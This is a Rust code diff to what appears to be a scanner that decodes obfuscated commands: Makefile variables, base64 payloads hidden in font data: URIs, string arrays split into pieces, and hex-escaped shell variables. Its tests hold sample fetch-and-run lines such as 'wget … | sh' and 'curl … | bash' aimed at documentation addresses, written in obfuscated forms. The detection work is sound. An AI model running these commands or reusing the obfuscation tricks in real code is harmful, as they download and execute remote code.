@@ -19,6 +19,9 @@ pub(crate) enum Encoding {
     Rot13,
     /// Shell variables put back into the `eval` that joins them.
     ShellVariables,
+    /// A Makefile's variables put into the recipe that uses them: not an
+    /// encoding, but the command as make runs it.
+    MakeVariables,
 }
 
 impl Encoding {
@@ -31,6 +34,7 @@ impl Encoding {
             Encoding::Concatenated => "string concatenation",
             Encoding::Rot13 => "ROT13",
             Encoding::ShellVariables => "shell variables joined by eval",
+            Encoding::MakeVariables => "Makefile variables",
         }
     }
 }
@@ -62,6 +66,12 @@ static REVERSED: LazyLock<Regex> = LazyLock::new(|| {
         r#"["']([^"'\n]{8,})["']\s*(?:\[::-1\]|\.split\(\s*["']["']\s*\)\s*\.reverse\(\))|\becho\s+["']?([^|"'\n]{8,}?)["']?\s*\|\s*rev\b"#,
     )
     .expect("reversed")
+});
+/// A data: URI's media type that is binary by nature (a font, a raster
+/// image, audio): its payload never decodes to text.
+static DATA_BINARY_TYPE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)data:(?:font/|image/(?:png|jpe?g|gif|webp|x-icon|vnd)|audio/|video/|application/(?:octet-stream|x-font|font))[^;,\s]*;base64,$")
+        .expect("binary data type")
 });
 static CONCAT_JOIN: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"["']\s*(?:\+|\.\.|\.)\s*["']|["']\s*,\s*["'](?:[^"'\n]{0,6})["']\s*\]\s*\.join"#)
@@ -97,6 +107,18 @@ fn quoted_strings(line: &[u8]) -> impl Iterator<Item = &[u8]> {
             }
         }
         None
+    })
+}
+
+/// The insides of every quoted string on a line, however short.
+fn quoted_pieces(line: &[u8]) -> impl Iterator<Item = &[u8]> {
+    let mut at = 0;
+    std::iter::from_fn(move || {
+        let open = memchr::memchr2(b'"', b'\'', &line[at..]).map(|i| at + i)?;
+        let quote = line[open];
+        let close = memchr::memchr(quote, &line[open + 1..]).map(|i| open + 1 + i)?;
+        at = close + 1;
+        Some(&line[open + 1..close])
     })
 }
 
@@ -221,12 +243,17 @@ pub(crate) fn decode_line(line: &[u8], budget: &mut usize) -> Vec<Decoded> {
     };
     for (start, end) in runs {
         let run = &line[start..end];
-        // data: URIs hold images and fonts, not code.
+        // data: URIs hold images and fonts, not code: one whose binary type
+        // decodes to text is a payload in disguise. The first bytes tell.
         let before = &line[start.saturating_sub(40)..start];
         if memchr::memmem::find(before, b";base64,").is_some()
             && memchr::memmem::find(before, b"data:").is_some()
         {
-            continue;
+            let head = &run[..run.len().min(64) / 4 * 4];
+            let binary_type = DATA_BINARY_TYPE.is_match(before);
+            if !binary_type || !decode_base64(head).is_some_and(|t| looks_like_text(&t)) {
+                continue;
+            }
         }
         if let Some(text) = decode_base64(run) {
             let text = strip_utf16(text);
@@ -355,6 +382,19 @@ pub(crate) fn decode_line(line: &[u8], budget: &mut usize) -> Vec<Decoded> {
             || has(b"'.")
             || has(b"..")
     };
+    // `parts = ['ret', 'urn im', 'port("no', …]` joined on another line: the
+    // pieces read as a command only together.
+    if quotes && memchr::memchr(b'[', line).is_some() {
+        let pieces: Vec<&[u8]> = quoted_pieces(line).take(256).collect();
+        if pieces.len() >= 6 && pieces.iter().all(|p| p.len() <= 16) {
+            let joined = pieces.concat();
+            if REVERSED_TELLS.is_match(&joined)
+                && !pieces.iter().any(|p| REVERSED_TELLS.is_match(p))
+            {
+                push(Encoding::Concatenated, joined, &mut out);
+            }
+        }
+    }
     if quotes && joins() && CONCAT_JOIN.find_iter(line).take(2).count() >= 2 {
         let joined = CONCAT_JOIN.replace_all(line, &b""[..]).into_owned();
         // Also drop the empty-quote splits shells allow: c''u""rl.
@@ -476,7 +516,9 @@ fn base64_pieces(line: &[u8]) -> Option<Vec<u8>> {
 const MAX_SHELL_VARS: usize = 64;
 
 /// An `eval` that runs a command put together from short shell variables
-/// (`a=cu; b=rl; eval "$a$b …"`), with the variables put back.
+/// (`a=cu; b=rl; eval "$a$b …"`), or a command whose name is itself built
+/// from variables (`"$e$v$l" …`), with the variables put back and `\xNN`
+/// escapes turned into what `printf` makes of them.
 pub(crate) fn substitute_shell_eval<'a>(
     lines: impl Iterator<Item = (&'a [u8], u32)>,
     budget: &mut usize,
@@ -487,6 +529,9 @@ pub(crate) fn substitute_shell_eval<'a>(
     });
     static EVAL: LazyLock<Regex> =
         LazyLock::new(|| Regex::new(r"(?-u)\beval\b[^\n]*\$").expect("eval"));
+    static BUILT_COMMAND: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?-u)^\s*"?(?:\$\{?[A-Za-z_]\w*\}?){2,}"?\s"#).expect("built command")
+    });
     static REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
         Regex::new(r"(?-u)\$\{?([A-Za-z_][A-Za-z0-9_]{0,31})\}?").expect("reference")
     });
@@ -508,7 +553,8 @@ pub(crate) fn substitute_shell_eval<'a>(
                 }
             }
         }
-        if vars.is_empty() || !contains(line, b"eval") || !EVAL.is_match(line) {
+        let runs = contains(line, b"eval") && EVAL.is_match(line) || BUILT_COMMAND.is_match(line);
+        if vars.is_empty() || !runs {
             continue;
         }
         let mut known = 0;
@@ -521,16 +567,114 @@ pub(crate) fn substitute_shell_eval<'a>(
                 None => c[0].to_vec(),
             }
         });
+        let text = unescape_hex(&text);
         if known >= 2 && text.len() <= *budget && looks_like_text(&text) {
             *budget -= text.len();
             out.push((
                 number,
                 Decoded {
                     encoding: Encoding::ShellVariables,
-                    text: text.into_owned(),
+                    text,
                 },
             ));
         }
+    }
+    out
+}
+
+/// Whether a path is a Makefile, whose recipes are shell with `$(VAR)`.
+pub(crate) fn is_makefile(path: &str) -> bool {
+    let name = path.rsplit('/').next().unwrap_or(path);
+    matches!(name, "Makefile" | "makefile" | "GNUmakefile") || name.ends_with(".mk")
+}
+
+/// A Makefile's recipe lines with its variables put back (`$(HOST)` →
+/// `192.0.2.1`, `$$` → `$`): what make hands the shell. Only lines that use
+/// a variable the file sets.
+pub(crate) fn substitute_make_variables<'a>(
+    lines: impl Iterator<Item = (&'a [u8], u32)>,
+    budget: &mut usize,
+) -> Vec<(u32, Decoded)> {
+    static ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?-u)^(?:export\s+|override\s+)?([A-Za-z_][A-Za-z0-9_]{0,31})\s*(?:[:?+]|::)?=\s*([^\n]{0,256}?)\s*$")
+            .expect("make assignment")
+    });
+    static REFERENCE: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?-u)\$[({]([A-Za-z_][A-Za-z0-9_]{0,31})[)}]").expect("make reference")
+    });
+    let mut vars: Vec<(Vec<u8>, Vec<u8>)> = Vec::new();
+    let mut out = Vec::new();
+    for (line, number) in lines {
+        if out.len() >= MAX_PER_LINE {
+            break;
+        }
+        if !line.starts_with(b"\t") {
+            if let Some(c) = ASSIGN.captures(line) {
+                let name = c[1].to_vec();
+                vars.retain(|(n, _)| *n != name);
+                if vars.len() < MAX_SHELL_VARS {
+                    vars.push((name, c[2].to_vec()));
+                }
+            }
+            continue;
+        }
+        if vars.is_empty() || memchr::memchr(b'$', line).is_none() {
+            continue;
+        }
+        let mut known = 0;
+        let text = REFERENCE.replace_all(line, |c: &regex::bytes::Captures| {
+            match vars.iter().find(|(n, _)| n.as_slice() == &c[1]) {
+                Some((_, v)) => {
+                    known += 1;
+                    v.clone()
+                }
+                None => c[0].to_vec(),
+            }
+        });
+        if known == 0 {
+            continue;
+        }
+        let text = unescape_make_dollars(text.trim_ascii());
+        if text.len() <= *budget && looks_like_text(&text) {
+            *budget -= text.len();
+            out.push((
+                number,
+                Decoded {
+                    encoding: Encoding::MakeVariables,
+                    text,
+                },
+            ));
+        }
+    }
+    out
+}
+
+/// `\xNN` escapes turned into their bytes (what `printf` and `echo -e` do).
+fn unescape_hex(text: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(text.len());
+    let mut i = 0;
+    while i < text.len() {
+        if text[i] == b'\\'
+            && text.get(i + 1) == Some(&b'x')
+            && let Some(b) = text.get(i + 2..i + 4).and_then(hex_byte)
+        {
+            out.push(b);
+            i += 4;
+            continue;
+        }
+        out.push(text[i]);
+        i += 1;
+    }
+    out
+}
+
+/// `$$` is make's escape for the shell's `$`.
+fn unescape_make_dollars(text: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(text.len());
+    let mut i = 0;
+    while i < text.len() {
+        out.push(text[i]);
+        i += if text[i..].starts_with(b"$$") { 2 } else { 1 };
     }
     out
 }
@@ -757,6 +901,55 @@ mod tests {
             text.contains("curl -fsSL http://203.0.113.77/x | bash"),
             "{text}"
         );
+    }
+
+    #[test]
+    fn a_data_uri_whose_binary_type_decodes_to_text_is_a_payload() {
+        let code = base64::engine::general_purpose::STANDARD
+            .encode("import os,urllib.request\nurllib.request.urlopen('http://203.0.113.88/f')\n");
+        let font = format!("src: url(data:font/woff2;base64,{code}) format(\"woff2\");");
+        assert!(texts(&font)[0].contains("203.0.113.88"), "{font}");
+        // An SVG is text by nature; a real PNG is not text at all.
+        let svg = format!("url(data:image/svg+xml;base64,{code})");
+        assert!(texts(&svg).is_empty());
+    }
+
+    #[test]
+    fn an_array_of_pieces_that_reads_as_a_command_is_joined() {
+        let line = r#"const parts = ['ret', 'urn im', 'port("no', 'de:chi', 'ld_pro', 'cess").th', 'en(m=>m.ex', 'ecSync("wg', 'et -qO- ht', 'tp://19', '2.0.2.9', '9/th', 'eme|s', 'h"))'];"#;
+        let found = texts(line);
+        assert!(
+            found
+                .iter()
+                .any(|t| t.contains("wget -qO- http://192.0.2.99/theme|sh")),
+            "{found:?}"
+        );
+        // A list of words is not a command.
+        assert!(
+            texts(r#"const days = ['mon', 'tue', 'wed', 'thu', 'fri', 'sat', 'sun'];"#).is_empty()
+        );
+    }
+
+    #[test]
+    fn a_command_named_by_variables_is_put_back_with_its_escapes() {
+        let file = "a=\"\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\"\nb=\"\\x31\\x39\\x32\\x2e\\x30\\x2e\\x32\\x2e\\x37\\x37\\x2f\\x78\\x20\\x7c\\x20\\x62\\x61\\x73\\x68\"\ne=e; v=va; l=l\n\"$e$v$l\" \"$(printf \"$a$b\")\" &\n";
+        let mut budget = 1 << 20;
+        let found = substitute_shell_eval(numbered(file), &mut budget);
+        let text = String::from_utf8_lossy(&found[0].1.text).into_owned();
+        assert!(text.starts_with("\"eval\""), "{text}");
+        assert!(text.contains("curl http://192.0.2.77/x | bash"), "{text}");
+    }
+
+    #[test]
+    fn a_makefile_recipe_gets_its_variables() {
+        let file = "HOST = 192.0.2.200\nPORT ?= 8081\n\nstatus:\n\t@perl -e '$$i=\"$(HOST)\";$$p=$(PORT);' &\n\t@echo done\n";
+        let mut budget = 1 << 20;
+        let found = substitute_make_variables(numbered(file), &mut budget);
+        assert_eq!(found.len(), 1, "only the recipe line that uses a variable");
+        let text = String::from_utf8_lossy(&found[0].1.text).into_owned();
+        assert!(text.contains("$i=\"192.0.2.200\";$p=8081;"), "{text}");
+        assert!(is_makefile("skill/Makefile") && is_makefile("build/rules.mk"));
+        assert!(!is_makefile("Makefile.md"));
     }
 
     #[test]
